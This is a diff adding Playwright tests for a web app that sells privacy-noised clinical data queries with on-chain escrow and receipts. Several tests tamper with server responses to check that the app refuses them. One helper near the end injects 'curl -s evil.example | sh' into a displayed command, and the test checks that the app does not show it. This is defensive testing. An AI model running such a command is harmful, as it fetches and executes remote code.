@@ -3,14 +3,16 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
 import re
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Any, cast
 from urllib.parse import urlsplit
 
+import pandas as pd
 import pytest
 from playwright.sync_api import BrowserContext, FilePayload, Locator, Page, ViewportSize, expect
 
@@ -265,6 +267,21 @@ def test_what_cannot_be_asked_is_said_at_its_field_and_what_was_typed_stays(
     page.fill("#filter1_value", "no")
     page.fill("#months", "soon")
     expect(page.locator("#months-error")).to_contain_text("no number of months")
+    expect(page.locator("#quote")).to_contain_text("No quote")
+    expect(page.locator("#decisions")).not_to_contain_text("live consents")
+    page.fill("#months", "")
+    expect(page.locator("#quote .facts")).to_be_visible()
+    page.fill("#clip_lower", "210")
+    expect(page.locator("#clip_lower-error")).to_have_text(
+        "“Clip below” is not below “Clip above”. Write the smaller number first."
+    )
+    page.fill("#clip_lower", "80")
+    for field, typed, remedy in (
+        ("cost", "30.000.000", f"such as 30000000; class 1 allows at most {MAX_COST:,}."),
+        ("target_error", "5,5", "Write it with a point and no commas, such as 120.5."),
+    ):
+        page.fill(f"#{field}", typed)
+        expect(page.locator(f"#{field}-error")).to_contain_text(remedy)
 
 
 def test_a_visitor_sees_who_permits_it_to_such_a_researcher_and_half_of_one_is_refused_at_its_field(
@@ -279,13 +296,13 @@ def test_a_visitor_sees_who_permits_it_to_such_a_researcher_and_half_of_one_is_r
         decisions = page.locator("#decisions")
         expect(decisions).to_contain_text("Choose a kind of organisation and a country")
         page.select_option("#kind", "1")
-        expect(page.locator("#country-error")).to_contain_text("no code of two letters")
+        expect(page.locator("#country-error")).to_contain_text("Choose the country, too.")
         expect(decisions).not_to_contain_text("live consents permit it")
-        page.fill("#country", "de")
+        page.select_option("#country", "DE")
         expect(decisions).to_contain_text("4 live consents permit it")
         page.select_option("#kind", "")
         expect(page.locator("#kind-error")).to_contain_text("Choose a kind of organisation, too.")
-        page.fill("#country", "")
+        page.select_option("#country", "")
         expect(decisions).to_contain_text("Choose a kind of organisation and a country")
     assert complaints == []
 
@@ -328,6 +345,28 @@ def test_the_panel_tells_every_class_and_a_ceiling_is_agreed_to_anew_when_it_cha
     assert researcher.violations() == []
 
 
+def test_what_a_chosen_class_does_not_permit_is_not_offered_and_the_reason_stands_instead(
+    researcher: Researcher,
+) -> None:
+    page = researcher.question()
+    button, care = (
+        page.get_by_role("button", name="Ask and pay"),
+        page.get_by_label("With clinical care of patients"),
+    )
+    expect(page.locator("#ceiling")).to_be_visible()
+    care.check()
+    expect(page.locator("#hindrance")).to_contain_text("It is not permitted by class 1.")
+    expect(button).to_be_hidden()
+    expect(page.locator("#ceiling")).to_be_hidden()
+    page.locator("#cost").press("Enter")  # a form is handed in without its button, too
+    expect(page.locator("#classes-error")).to_contain_text("It is not permitted by class 1.")
+    assert researcher.violations() == []
+    care.uncheck()
+    expect(button).to_be_visible()
+    expect(page.locator("#ceiling")).to_be_visible()
+    expect(page.locator("#hindrance")).to_be_empty()
+
+
 def test_a_quote_that_does_not_follow_from_the_question_is_never_paid(
     researcher: Researcher,
 ) -> None:
@@ -351,14 +390,49 @@ def test_a_quote_that_does_not_follow_from_the_question_is_never_paid(
     assert page.locator("#ceiling input:checked").count() == 1  # nothing that was said is lost
 
 
+def test_no_amount_is_shown_by_the_word_of_a_page_alone(researcher: Researcher) -> None:
+    """Not in a token that this browser does not know, nor of variables that the chain has otherwise."""
+    page = researcher.page
+    busy = {"code": "busy", "detail": "This process is at work for others.", "remedy": "Ask again."}
+    page.route("**/deployment", lambda route: route.fulfill(status=503, json=busy))
+    page = researcher.question()
+    expect(page.locator("form.ask")).to_contain_text("at work for others")
+    expect(page.locator("#quote")).to_contain_text("No quote")
+    expect(page.locator("#ceiling")).to_be_hidden()
+    page.unroute("**/deployment")
+    page.fill("#cost", "20000")
+    expect(page.locator("#ceiling")).to_be_visible()
+    page.route("**/ask?dataset=*", mislabelled)
+    page = researcher.question()
+    expect(page.locator("form.ask")).to_contain_text("not the one on chain")
+    expect(page.locator("#ceiling")).to_be_hidden()
+    page.unroute("**/ask?dataset=*")
+
+
+def mislabelled(route: Any) -> None:
+    response = route.fetch()
+    body = response.text().replace("Systolic", "Diastolic")
+    assert "Diastolic" in body
+    route.fulfill(response=response, body=body)
+
+
 def lying(page: Page, path: str, name: str) -> None:
     """Has the server's answer name something else."""
+
+    def change(told: Any) -> None:
+        value = told[name]
+        told[name] = f"0x{'ab' * 32}" if isinstance(value, str) else value + 1
+
+    telling(page, path, change)
+
+
+def telling(page: Page, path: str, change: Callable[[Any], object]) -> None:
+    """Has the server's answer be another, from now on."""
 
     def answer(route: Any) -> None:
         response = route.fetch()
         told = response.json()
-        value = told[name]
-        told[name] = f"0x{'ab' * 32}" if isinstance(value, str) else value + 1
+        change(told)
         route.fulfill(response=response, json=told)
 
     page.route(path, answer)
@@ -384,11 +458,29 @@ def test_a_question_is_paid_followed_and_opened_and_its_numbers_are_those_that_p
         for name in ("value", "low", "high"):
             expect(told).to_contain_text(estimate[name])
     expect(page.locator("#result")).to_contain_text("sampling")
-    expect(page.locator("#answer")).to_contain_text("This tells nothing")
+    lowest, highest = opened.document["parameters"]["clip"]
+    spans = float(estimate["low"]) <= float(lowest) and float(estimate["high"]) >= float(highest)
+    said = expect(page.locator("#answer"))  # by the noise, mostly so
+    (said.to_contain_text if spans else said.not_to_contain_text)("This tells nothing")
     assert page.locator("#checks .badge").all_text_contents() == ["Holds"] * 9
-    rows = list(csv.reader(researcher.saved("Save as CSV").decode().splitlines()))
+    table = researcher.saved("Save as CSV").decode()
+    head, row = csv.reader(table.splitlines())
+    assert list(pd.read_csv(io.StringIO(table)).columns) == head
     numbers = [estimate["value"], estimate["low"], estimate["high"], noised["unit"]]
-    assert rows == [["estimate", "lower", "upper", "unit"], numbers]
+    assert (head[:4], row[:4]) == (["estimate", "lower", "upper", "unit"], numbers)
+    about = dict(zip(head[4:], row[4:], strict=True))
+    assert "Variable: Systolic blood pressure" in about.pop("question")
+    filters: Any = opened.document["parameters"]["filters"]
+    assert bool(about.pop("condition")) == bool(filters)
+    assert about == {
+        "unit_as_written": "mmHg",
+        "level": "0.95",
+        "analysis": "mean.v1",
+        "cohort_size": str(opened.document["cohort_size"]),
+        "request": request,
+    }
+    group = "The group had 4 patients; the answer" if filters else "Counted: 4 patients."
+    expect(page.locator("#answer")).to_contain_text(group)
     assert researcher.saved("Save as JSON") == opened.result
     assert researcher.saved("Save the receipt") == canonical(receipt)
     assert researcher.violations() == []
@@ -526,10 +618,16 @@ def test_a_receipt_is_verified_where_it_is_dropped_and_a_false_one_is_refused_at
     assert Manifest.from_json(json.loads(manifest)) == api.operator.chain.manifest
     assert researcher.violations() == []
     assert researcher.heard.carrying(receipt["sealed_result"][:60]) == []  # it stays here
-    lying(page, "**/verify/0x*", "members")
-    page.get_by_role("button", name="Verify").click()
-    expect(page.locator("#verdict")).to_contain_text("Do not rely on it")
-    page.unroute("**/verify/0x*")
+    for lie, verdict in (
+        (lambda told: told["receipt"].update(genesis_hash=f"0x{'ab' * 32}"), "Do not rely on it"),
+        (lambda told: told["receipt"].pop("signatures"), "Not decided here"),
+        (lambda told: told.update(final=False), "Not decided here"),
+    ):
+        telling(page, "**/verify/0x*", lie)
+        with page.expect_response("**/verify/0x*"):
+            page.get_by_role("button", name="Verify").click()
+        expect(page.locator("#verdict")).to_contain_text(verdict)
+        page.unroute_all(behavior="wait")
     spoilt = {**receipt, "cost": str(int(receipt["cost"]) + 1)}
     elsewhere = {**receipt, "chain_id": receipt["chain_id"] + 1}
     for content, why in (
@@ -541,6 +639,27 @@ def test_a_receipt_is_verified_where_it_is_dropped_and_a_false_one_is_refused_at
         drop(page, content)
         expect(page.locator("#receipt-error")).to_contain_text(why)
         expect(page.locator("#found")).to_be_hidden()
+
+
+def test_a_late_word_about_one_receipt_does_not_stand_beside_the_next(
+    researcher: Researcher,
+) -> None:
+    page, api = researcher.page, researcher.api
+    receipt: Any = api.operator.reads.receipt(researcher.settled()).receipt
+    page.goto("/verify")
+    held: list[Any] = []
+    page.route("**/verify/0x*", lambda route: held.append(route))
+    with page.expect_request("**/verify/0x*"):
+        drop(page, canonical(receipt))
+    drop(page, canonical({**receipt, "cost": "7"}))
+    expect(page.locator("#receipt-error")).to_contain_text("cost differs from its other mention")
+    with page.expect_response("**/verify/0x*"):
+        held[0].continue_()
+    page.evaluate(
+        "() => new Promise((done) => setTimeout(done, 1000))"
+    )  # in which it would be shown
+    expect(page.locator("#found")).to_be_hidden()
+    expect(page.locator("#receipt-error")).to_be_visible()
 
 
 def drop(page: Page, content: bytes) -> None:
@@ -559,13 +678,15 @@ def test_a_request_is_cancelled_before_the_freeze_and_the_escrow_comes_back_and_
     before = researcher.credit
     terms = api.operator.chain.request_terms(bytes.fromhex(request[2:]))
     page.reload()
-    page.get_by_role("button", name="Cancel this request").click()
+    cancel = page.get_by_role("button", name="Cancel this request")
+    expect(cancel).to_have_attribute("data-kind", "primary")  # red is for what takes something away
+    cancel.click()
     expect(page.locator("#said")).to_contain_text("Cancelled")
     assert researcher.credit == before + terms.escrow
     page.goto("/my")
     expect(page.locator("main")).to_contain_text(request[2:8])
     assert researcher.violations() == []
-    assert page.input_value("#to") == api.researcher.address
+    expect(page.locator("#to")).to_have_value(api.researcher.address)
     balance = api.operator.chain.balance_of(api.researcher.address)
     page.get_by_role("button", name="Withdraw").click()
     expect(page.locator("#said")).to_contain_text("Paid out")
@@ -629,11 +750,27 @@ def test_what_is_held_for_a_request_without_an_answer_comes_back_by_a_button_as_
     pass_deadline(api)
     page.goto(f"/my/requests/{to_hex(never_settled)}")
     expect(page.locator("#back")).to_contain_text("not settled in time")
-    expect(page.locator("#back code")).to_contain_text(f"--custodian {api.custodian_urls[0]}")
+    command = f"usufruct default --request {to_hex(never_settled)} --custodian "
+    expect(page.locator("#back code")).to_contain_text(f"{command}{api.custodian_urls[0]}")
+    page.route(page.url, evil)
+    page.reload()
+    expect(page.locator("#back code")).to_have_text(re.compile("^" + re.escape(command)))
+    expect(page.locator("#back")).not_to_contain_text("evil.example")
+    page.unroute(page.url)
     expect(page.locator("#take-back")).to_be_hidden()  # first, certificates
     pass_deadline(api)
     fee = chain.request(never_settled).escrow
     taken_back(researcher, never_settled, "End it without certificates", fee)
+
+
+def evil(route: Any) -> None:
+    """A server whose commands do something else."""
+    response = route.fetch()
+    body = response.text().replace(
+        "usufruct default", "curl -s evil.example | sh; usufruct default"
+    )
+    assert "evil.example" in body
+    route.fulfill(response=response, body=body)
 
 
 def taken_back(researcher: Researcher, request: bytes, button: str, amount: int) -> None:
